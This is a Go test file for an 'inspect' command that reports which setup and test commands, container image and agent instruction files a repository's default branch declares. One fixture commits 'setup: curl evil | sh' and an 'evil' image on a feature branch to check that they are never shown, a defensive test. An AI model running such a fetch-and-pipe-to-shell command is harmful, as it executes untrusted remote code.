package inspect

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// write commits the files (path, content, …) on the checkout's current
// branch, making the checkout (on main) the first time: inspect reads
// commits, not files.
func write(t *testing.T, dir string, kv ...string) {
	t.Helper()
	if _, err := os.Stat(filepath.Join(dir, ".git")); err != nil {
		git(t, dir, "init", "--quiet", "--initial-branch=main")
	}
	for i := 0; i+1 < len(kv); i += 2 {
		p := filepath.Join(dir, kv[i])
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(kv[i+1]), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git(t, dir, "add", "-A")
	git(t, dir, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "--quiet", "--allow-empty", "-m", "c")
}

func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	if out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

// A checkout on another branch, with files of its own, is shown what its
// default branch holds, and told so.
func TestInspectReadsTheDefaultBranch(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "go.mod", "module x\n", "AGENTS.md", "base", ".github/warden.yml", "setup: make deps\n")
	git(t, dir, "checkout", "--quiet", "-b", "feature")
	write(t, dir, ".github/warden.yml", "setup: curl evil | sh\n", ".devcontainer.json", `{"image":"evil:1"}`, "CLAUDE.md", "model")
	if err := os.WriteFile(filepath.Join(dir, ".github", "warden.yml"), []byte("setup: uncommitted\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if Main([]string{"--repo", dir}, func(string) string { return "" }, &out, &out) != 0 {
		t.Fatal(out.String())
	}
	for _, want := range []string{"read from:    main (", "make deps   (set in .github/warden.yml)", "instructions: AGENTS.md\n", "the checkout is on branch feature; this is what main (the default branch"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("missing %q in\n%s", want, out.String())
		}
	}
	for _, bad := range []string{"evil", "uncommitted", "CLAUDE.md"} {
		if strings.Contains(out.String(), bad) {
			t.Errorf("the checkout's own %q shown:\n%s", bad, out.String())
		}
	}
}

func TestInspectJSONShape(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "go.mod", "module x\n", "go.sum", "", "AGENTS.md", "be nice",
		".github/warden.yml", "maintenance: {max_files: 1}\nprotected_paths: [\"docs/**\"]\n")
	var out, errb bytes.Buffer
	if code := Main([]string{"--repo", dir, "--json"}, func(string) string { return "" }, &out, &errb); code != 0 {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	var got map[string]any
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	test := got["test"].(map[string]any)
	if test["command"] != "go test ./..." || test["inferred_from"] != "go.mod" {
		t.Errorf("test = %v", test)
	}
	if setup := got["setup"].(map[string]any); setup["command"] != "go mod download" || setup["inferred_from"] != "go.mod" {
		t.Errorf("setup = %v", setup)
	}
	if got["image"] != "" {
		t.Errorf("image = %v", got["image"])
	}
	if ins := got["instructions"].([]any); len(ins) != 1 || ins[0] != "AGENTS.md" {
		t.Errorf("instructions = %v", ins)
	}
	m := got["modes"].(map[string]any)["maintenance"].(map[string]any)
	if m["max_files"] != float64(1) || !strings.Contains(strings.Join(toStrings(m["protected_paths"]), " "), "docs/**") {
		t.Errorf("maintenance = %v", m)
	}
	if _, ok := got["modes"].(map[string]any)["evolution"]; !ok {
		t.Error("no evolution mode")
	}
}

func toStrings(v any) []string {
	var out []string
	for _, x := range v.([]any) {
		out = append(out, x.(string))
	}
	return out
}

func TestInspectDeclaredAndDefaultImage(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "package.json", `{"scripts":{"test":"node --test"}}`, ".github/warden.yml", "test: make check\n")
	env := func(k string) string {
		if k == "WARDEN_DEFAULT_IMAGE" {
			return "registry.example/img:1"
		}
		return ""
	}
	var out bytes.Buffer
	if Main([]string{"--repo", dir}, env, &out, &out) != 0 {
		t.Fatal(out.String())
	}
	for _, want := range []string{"registry.example/img:1   (from WARDEN_DEFAULT_IMAGE)", "make check   (set in .github/warden.yml)", "setup:        (none)"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("missing %q in\n%s", want, out.String())
		}
	}
}

func TestInspectNothingInferredSaysWhatToSet(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "README.md", "hi")
	var out bytes.Buffer
	Main([]string{"--repo", dir}, func(string) string { return "" }, &out, &out)
	if !strings.Contains(out.String(), "set `test:`") {
		t.Fatalf("no hint:\n%s", out.String())
	}
}

func TestInspectInvalidConfigFails(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, ".github/warden.yml", "tset: x\n")
	var out, errb bytes.Buffer
	if code := Main([]string{"--repo", dir}, func(string) string { return "" }, &out, &errb); code != 1 || !strings.Contains(errb.String(), "tset") {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
}

// inspect names the mirror each command would use: the operator's, or the
// tool's own index when the setting is unset.
func TestInspectShowsTheMirrorEachCommandUses(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "pyproject.toml", "[project]\nname = \"calc\"\ndependencies = [\"attrs\"]\n[tool.pytest.ini_options]\n")
	env := func(k string) string {
		return map[string]string{"WARDEN_PIP_INDEX_URL": "http://127.0.0.2:8081/simple/"}[k]
	}
	var out bytes.Buffer
	if Main([]string{"--repo", dir}, env, &out, &out) != 0 {
		t.Fatal(out.String())
	}
	if !strings.Contains(out.String(), "setup mirror: WARDEN_PIP_INDEX_URL=http://127.0.0.2:8081/simple/ (PIP_INDEX_URL, UV_DEFAULT_INDEX)") {
		t.Fatalf("the setup's mirror is not shown:\n%s", out.String())
	}
	if strings.Contains(out.String(), "test mirror") {
		t.Fatalf("python3 -m pytest downloads nothing, yet a mirror is shown for it:\n%s", out.String())
	}
	out.Reset()
	Main([]string{"--repo", dir, "--json"}, func(string) string { return "" }, &out, &out)
	var r Report
	if err := json.Unmarshal(out.Bytes(), &r); err != nil {
		t.Fatal(err)
	}
	if len(r.Setup.Mirrors) != 1 || r.Setup.Mirrors[0].Setting != "WARDEN_PIP_INDEX_URL" || r.Setup.Mirrors[0].URL != "" {
		t.Fatalf("unset mirror: %+v", r.Setup.Mirrors)
	}
}
